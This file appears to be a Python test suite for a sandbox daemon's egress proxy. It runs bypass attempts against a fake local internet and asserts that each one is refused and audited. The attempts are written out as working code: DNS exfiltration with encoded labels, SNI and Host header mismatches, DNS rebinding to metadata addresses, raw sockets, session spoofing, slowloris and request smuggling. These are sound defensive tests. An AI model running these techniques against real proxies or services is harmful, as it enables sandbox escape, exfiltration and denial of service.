"""The egress bypass suite: what users of other sandboxes' egress allowlists found open, tried
from inside a real sandbox against the daemon's egress proxy and the fake internet
(:mod:`tests.support.fakenet`, this machine only). Every attempt is refused; an attempt that
reaches the proxy is an audit record (``egress``, ``denied``, with the rule and the reason).
Attempts that never leave the sandbox (direct connections, UDP, ICMP, IPv6, raw sockets, its
own DNS queries) are refused by the kernel: the sandbox has no network but its loopback, so
they reach no proxy to audit them, and the fake internet's servers and DNS server show that
nothing arrived."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from typing import Any

import pytest

from tests.support.egress import RECORD_S, EgressLab, egress_lab
from tests.support.fakenet import FORBIDDEN_IP
from tests.support.scale import time_bound
from tests.support.wait import wait_until

# Not marked same_on_every_host: the VM job runs it under systemd and cgroup v2, where most
# hosts run sandboxd (the none network, the proxy socket and the fake internet on 127/8 need
# nothing the guest lacks; tests/vm/README.md has its time).
pytestmark = pytest.mark.docker

PRELUDE = """\
import errno, socket, ssl, time
def ask(data, after=None):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    s.sendall(data)
    out = b""
    try:
        while len(out) < 65536:
            chunk = s.recv(65536)
            if not chunk:
                break
            out += chunk
            if after is not None and out.endswith(b"\\r\\n\\r\\n"):
                s.sendall(after)
                after = None
    except OSError as e:
        out += ("<%s>" % e).encode()
    s.close()
    return out.decode("latin-1")
def refused(fn):
    try:
        fn()
        return "reached"
    except OSError as e:
        return "refused: %s" % (errno.errorcode.get(e.errno, type(e).__name__),)
"""


@pytest.fixture(scope="module")
def lab(docker_client: Any) -> Iterator[EgressLab]:
    with egress_lab() as running:
        yield running


def _run(lab: EgressLab, code: str, session: str | None = None) -> Any:
    body = lab.py(PRELUDE + code, session=session)
    assert body["status"] == "ok", body
    return body["value"]


def _denied(lab: EgressLab, **match: Any) -> dict[str, Any]:
    record = lab.wait_egress(**match)
    assert record["verdict"] == "denied" and record["rule"] and record["reason"], record
    assert record["bytes_in"] == 0, record
    return record


def test_direct_ip_connections_have_no_route(lab: EgressLab) -> None:
    out = _run(lab, "[refused(lambda: socket.create_connection((ip, 80), timeout=5))\n"
                    " for ip in ('1.1.1.1', '172.17.0.1', '169.254.169.254')]")
    assert out == ["refused: ENETUNREACH"] * 3, out
    # the proxy with an address of the fake internet: no address entry allows it
    port = lab.net.https_port
    reply = _run(lab, f"ask(b'CONNECT {FORBIDDEN_IP}:{port} HTTP/1.1\\r\\n\\r\\n')")
    assert reply.startswith("HTTP/1.1 403 ") and "is an IP address" in reply, reply
    _denied(lab, host=FORBIDDEN_IP, port=port)
    assert lab.net.requests("forbidden-tls") == []


def test_an_ip_literal_in_the_host_header_or_url_is_refused(lab: EgressLab) -> None:
    p = lab.net.http_port
    reply = _run(lab, f"ask(b'GET http://api.test:{p}/lit HTTP/1.1\\r\\n"
                      f"Host: {FORBIDDEN_IP}:{p}\\r\\n\\r\\n')")
    assert reply.startswith("HTTP/1.1 403 ") and "Host header" in reply, reply
    _denied(lab, host="api.test", path="/lit")
    reply = _run(lab, f"ask(b'GET http://{FORBIDDEN_IP}:{p}/lit2 HTTP/1.1\\r\\n"
                      f"Host: {FORBIDDEN_IP}:{p}\\r\\n\\r\\n')")
    assert reply.startswith("HTTP/1.1 403 ") and "is an IP address" in reply, reply
    _denied(lab, host=FORBIDDEN_IP, path="/lit2")
    assert lab.net.requests("forbidden") == []


def test_a_tls_server_name_other_than_the_connect_host_is_refused(lab: EgressLab) -> None:
    port = lab.net.https_port
    out = _run(lab, lab.ca_code() + f"""\
s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
s.sendall(b"CONNECT api.test:{port} HTTP/1.1\\r\\n\\r\\n")
head = s.recv(4096)
try:
    ctx.wrap_socket(s, server_hostname="forbidden.test")
    out = "handshake done"
except (OSError, ssl.SSLError) as e:
    out = "refused"
[head.decode(), out]""")
    assert out[0].startswith("HTTP/1.1 200") and out[1] == "refused", out
    record = _denied(lab, host="api.test", port=port, method="CONNECT")
    assert "TLS server name 'forbidden.test' is not the CONNECT host api.test" \
        in record["reason"], record
    assert record["bytes_out"] == 0  # nothing went upstream


def test_a_host_header_other_than_the_connect_host_is_refused(lab: EgressLab) -> None:
    p = lab.net.http_port
    reply = _run(lab, f"ask(b'CONNECT api.test:{p} HTTP/1.1\\r\\n\\r\\n', "
                      f"after=b'GET /hh HTTP/1.1\\r\\nHost: forbidden.test:{p}\\r\\n\\r\\n')")
    assert reply == "HTTP/1.1 200 Connection established\r\n\r\n", reply  # then closed
    record = _denied(lab, host="api.test", port=p, method="CONNECT")
    assert "does not start with a TLS ClientHello" in record["reason"], record
    reply = _run(lab, f"ask(b'GET http://api.test:{p}/hh2 HTTP/1.1\\r\\n"
                      f"Host: forbidden.test:{p}\\r\\n\\r\\n')")
    assert reply.startswith("HTTP/1.1 403 ") and "Host header" in reply, reply
    _denied(lab, host="api.test", path="/hh2")
    assert not [r for r in lab.net.requests("api") if r["path"] in ("/hh", "/hh2")]


def test_dns_exfiltration_leaves_nothing(lab: EgressLab) -> None:
    net = lab.net
    dns_ip, dns_port = net.resolver.split(":")
    out = _run(lab, f"""\
out = []
for name in ("c2VjcmV0.exfil.test", "dGV4dA.exfil.test"):
    try:
        socket.getaddrinfo(name, 443)
        out.append("resolved")
    except OSError:
        out.append("no resolver")
# a hand-made TXT question straight to the fake internet's DNS server, and to a public one
q = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00" + \\
    b"\\x08c2VjcmV0\\x05exfil\\x04test\\x00\\x00\\x10\\x00\\x01"
for where in (("{dns_ip}", {dns_port}), ("8.8.8.8", 53)):
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.settimeout(2)
    def exchange():
        u.sendto(q, where)
        u.recvfrom(512)
    out.append(refused(exchange))
out.append(ask(b"CONNECT c2VjcmV0.exfil.test:443 HTTP/1.1\\r\\n\\r\\n")[:12])
out""")
    assert out[:2] == ["no resolver", "no resolver"], out
    assert out[2].startswith("refused") and out[3] == "refused: ENETUNREACH", out
    assert out[4] == "HTTP/1.1 403", out
    _denied(lab, host="c2vjcmv0.exfil.test", port=443)
    assert not [q for q in net.questions if "exfil" in q[0]], net.questions


@pytest.mark.parametrize(("name", "address"), [
    ("rebind-loopback.test", "127.0.0.1"), ("rebind-bridge.test", "172.17.0.1"),
    ("rebind-metadata.test", "169.254.169.254")])
def test_dns_rebinding_to_private_addresses_is_refused(lab: EgressLab, name: str,
                                                       address: str) -> None:
    p = lab.net.http_port
    reply = _run(lab, f"ask(b'GET http://{name}:{p}/rb HTTP/1.1\\r\\n"
                      f"Host: {name}:{p}\\r\\n\\r\\n')")
    assert reply.startswith("HTTP/1.1 403 "), reply
    assert f"{name} resolved to {address}: private, loopback or link-local" in reply, reply
    record = _denied(lab, host=name, path="/rb")
    assert record["rule"] == "egress (private answers)" and record["address"] is None


def test_ipv6_udp_icmp_and_raw_sockets_go_nowhere(lab: EgressLab) -> None:
    out = _run(lab, """\
def v6():
    socket.socket(socket.AF_INET6, socket.SOCK_STREAM).connect(("2606:4700:4700::1111", 443))
def udp():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("1.1.1.1", 53))
def icmp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    s.sendto(b"\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00", ("1.1.1.1", 0))
def raw():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
def packet():
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
[refused(f) for f in (v6, udp, icmp, raw, packet)]""")
    v6, udp, icmp, raw, packet = out
    assert v6 in ("refused: ENETUNREACH", "refused: EAFNOSUPPORT", "refused: EADDRNOTAVAIL"), out
    assert udp == "refused: ENETUNREACH", out
    assert icmp in ("refused: ENETUNREACH", "refused: EACCES", "refused: EPERM"), out
    assert raw in ("refused: EPERM", "refused: EACCES"), out
    assert packet in ("refused: EPERM", "refused: EACCES", "refused: EAFNOSUPPORT"), out
    # and an IPv6 literal through the proxy: no address entry allows it
    reply = _run(lab, "ask(b'CONNECT [2606:4700:4700::1111]:443 HTTP/1.1\\r\\n\\r\\n')")
    assert reply.startswith("HTTP/1.1 403 ") and "is an IP address" in reply, reply
    _denied(lab, host="2606:4700:4700::1111", port=443)


def test_a_port_not_allowed_is_refused(lab: EgressLab) -> None:
    reply = _run(lab, "ask(b'CONNECT api.test:22 HTTP/1.1\\r\\n\\r\\n')")
    assert reply.startswith("HTTP/1.1 403 ") and \
        "no egress.allow entry of policy 'egress' matches api.test:22" in reply, reply
    record = _denied(lab, host="api.test", port=22)
    assert record["rule"] == "egress.allow (default deny)"


def test_a_redirect_to_a_forbidden_host_is_checked_again(lab: EgressLab) -> None:
    p = lab.net.http_port
    out = _run(lab, f"""\
import urllib.request, urllib.error
try:
    urllib.request.urlopen("http://api.test:{p}/redirect/http://forbidden.test:{p}/rd",
                           timeout=20)
    out = "followed"
except urllib.error.HTTPError as e:
    out = [e.code, e.reason]
out""")
    assert out[0] == 403 and f"matches forbidden.test:{p}" in out[1], out
    assert lab.wait_egress(host="api.test", path=f"/redirect/http://forbidden.test:{p}/rd"
                           )["verdict"] == "allowed"
    _denied(lab, host="forbidden.test", path="/rd")
    assert lab.net.requests("forbidden") == []


def test_a_sandbox_cannot_speak_as_another(lab: EgressLab) -> None:
    p = lab.net.http_port
    a = lab.d.client.post("/v1/sessions").json()["id"]
    b = lab.d.client.post("/v1/sessions").json()["id"]
    try:
        _run(lab, f"ask(b'GET http://api.test:{p}/me-b HTTP/1.1\\r\\n"
                  f"Host: api.test:{p}\\r\\n\\r\\n')", session=b)
        listed, reply = _run(lab, f"""\
import os
[sorted(n for n in os.listdir("/run/sandboxd") if n.endswith(".sock")),
 ask(b"GET http://api.test:{p}/as-b HTTP/1.1\\r\\nHost: api.test:{p}\\r\\n"
     b"Proxy-Authorization: Basic {b}\\r\\nX-Sandboxd-Session: {b}\\r\\n\\r\\n")]""", session=a)
        assert [n for n in listed if "egress" in n] == ["egress.sock"], listed  # its own only
        assert "hello from api /as-b" in reply, reply
        mine = lab.wait_egress(path="/as-b")
        theirs = lab.wait_egress(path="/me-b")
        assert mine["session"] == a and theirs["session"] == b, (mine, theirs)
        assert mine["sandbox"] != theirs["sandbox"]
        sent = next(r for r in lab.net.requests("api") if r["path"] == "/as-b")
        assert "Proxy-Authorization" not in sent["headers"], sent  # never forwarded
    finally:
        lab.d.client.delete(f"/v1/sessions/{a}")
        lab.d.client.delete(f"/v1/sessions/{b}")


def test_a_slowloris_does_not_stop_the_proxy_serving_others(lab: EgressLab) -> None:
    p = lab.net.http_port
    slow_code = f"""\
import urllib.request
slow = []
for i in range(40):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=30)
    s.sendall(b"GET http://api.test:{p}/slow HTTP/1.1\\r\\n")
    slow.append(s)
urllib.request.urlopen("http://api.test:{p}/slowloris-started", timeout=30).read()
t0, closed = time.monotonic(), 0
while slow and time.monotonic() - t0 < 60:
    for s in list(slow):
        try:
            s.sendall(b"X-Slow: 1\\r\\n")
            s.settimeout(0.01)
            if s.recv(1) == b"":
                raise OSError("closed")
        except socket.timeout:
            pass
        except OSError:
            slow.remove(s)
            closed += 1
    time.sleep(1)
[closed, time.monotonic() - t0]"""
    # the other sandbox is a session started and warmed before the attack: its request must
    # come while the slow connections are held (the proxy's 10 s head deadline), which a
    # container started only then may miss on a slow host
    other_session = lab.d.client.post("/v1/sessions").json()["id"]
    result: dict[str, Any] = {}
    attacker = threading.Thread(target=lambda: result.update(lab.py(PRELUDE + slow_code)))
    try:
        assert lab.py("import urllib.request", session=other_session)["status"] == "ok"
        attacker.start()
        started = lab.wait_egress(path="/slowloris-started")
        other = lab.py(f"urllib.request.urlopen('http://api.test:{p}/meanwhile', "
                       f"timeout=20).read().decode()", session=other_session)
        assert other["value"] == "hello from api /meanwhile\n", other
        served = lab.wait_egress(path="/meanwhile")
    finally:
        if attacker.ident is not None:  # started
            attacker.join(120)
        lab.d.client.delete(f"/v1/sessions/{other_session}")
    closed, seconds = result["value"]
    # the proxy's head deadline (10 s) closed them all (a hang is what the bound catches)
    assert closed == 40 and seconds < time_bound(30.0, emulated_s=55.0), result
    slow = wait_until(lambda: [r for r in lab.egress(verdict="denied")
                               if "no complete request head" in r.get("reason", "")] or None,
                      timeout=RECORD_S, what="the slow connections' records")
    assert len(slow) >= 40 and served["sandbox"] != started["sandbox"]
    assert served["seq"] < min(r["seq"] for r in slow)  # served while they were held open


def test_a_request_pipelined_after_an_allowed_one_never_reaches_the_server(
        lab: EgressLab) -> None:
    """Request smuggling: a server that reads on despite ``Connection: close`` would get a
    second request the proxy never checked (here a path outside ``GET /v1/``); the proxy
    forwards the first request's body (by its Content-Length) and nothing after it."""
    p = lab.net.http_port
    out = _run(lab, f"""\
s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
s.sendall(b"GET http://other.test:{p}/v1/keepreading HTTP/1.1\\r\\nHost: other.test:{p}\\r\\n"
          b"Content-Length: 0\\r\\n\\r\\n"
          b"GET /v2/smuggled HTTP/1.1\\r\\nHost: other.test:{p}\\r\\n\\r\\n")
got = b""
while not got.endswith(b"/v1/keepreading\\n"):
    chunk = s.recv(4096)
    if not chunk:
        break
    got += chunk
s.close()
got.decode()""")
    assert out.startswith("HTTP/1.1 200") and "hello from api /v1/keepreading" in out, out
    record = lab.wait_egress(path="/v1/keepreading")
    assert record["verdict"] == "allowed", record
    paths = [r["path"] for r in lab.net.requests("api")]
    assert "/v1/keepreading" in paths and "/v2/smuggled" not in paths, paths
